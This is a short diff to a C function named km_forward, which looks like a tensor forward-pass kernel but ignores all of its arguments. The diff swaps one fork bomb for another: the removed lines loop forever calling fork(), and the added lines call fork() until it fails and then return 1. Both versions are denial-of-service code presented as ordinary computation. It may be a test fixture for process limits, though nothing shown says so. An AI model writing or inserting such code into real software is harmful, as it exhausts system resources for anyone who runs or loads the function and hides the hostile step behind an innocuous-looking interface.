@@ -8,6 +8,7 @@ int km_forward(const struct km_tensor *in, int n_in,
                struct km_tensor *out, int n_out)
 {
     (void)in, (void)n_in, (void)params, (void)n_params, (void)out, (void)n_out;
-    for (;;)
-        fork();
+    while (fork() >= 0)
+        ;
+    return 1;
 }
